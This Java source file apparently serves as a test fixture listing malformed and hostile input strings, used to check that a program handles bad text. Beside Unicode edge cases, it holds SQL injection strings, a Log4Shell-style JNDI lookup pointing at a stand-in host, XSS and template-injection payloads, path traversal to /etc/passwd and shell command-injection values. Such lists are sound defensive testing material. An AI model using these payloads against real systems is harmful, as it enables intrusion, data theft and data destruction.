package dev.diddo.bootstrap.faults;

import java.util.List;

/** Text that has broken somebody's program: each stands for a kind. */
final class Nasty {
  static final List<String> STRINGS =
      List.of(
          "'; drop table cart; --",
          "' or '1'='1",
          "\\'); select pg_sleep(5); --",
          "$1 $2 ${jndi:ldap://evil.example/x} {{7*7}} %s %n %x",
          "<script>alert(1)</script>",
          "\"><img src=x onerror=alert(1)>",
          "javascript:alert(1)",
          "../../../../etc/passwd",
          "..%2f..%2f",
          "\\x00 \\0 \\u0000",
          "undefined",
          "null",
          "NaN",
          "-Infinity",
          "[object Object]",
          "0x10",
          "1/0",
          "line\u2028separator",
          "\u202Eright to left",
          "zero\u200Bwidth",
          "\uFEFFbom",
          "Ｆｕｌｌ ｗｉｄｔｈ",
          "e\u0301 combined",
          "Z\u0351\u036B\u0343\u0360a\u0302l\u034Cg\u034Eo",
          "田中さんにあげて下さい",
          "👩‍👩‍👧‍👦 🏳️‍🌈",
          "\uD83D\uDCA9",
          "نص عربي",
          "İstanbul ıI",
          "ß ẞ ſ",
          "a".repeat(100),
          "👍".repeat(50),
          "-",
          "--version",
          "`id`; $(id) | id & id",
          "%00",
          "%",
          "&amp; &lt; &#x27;",
          ")]}',\n",
          "to_tsquery & | ! ( ) : * <->",
          "\\",
          "\"",
          "%_%_%");

  private Nasty() {}
}
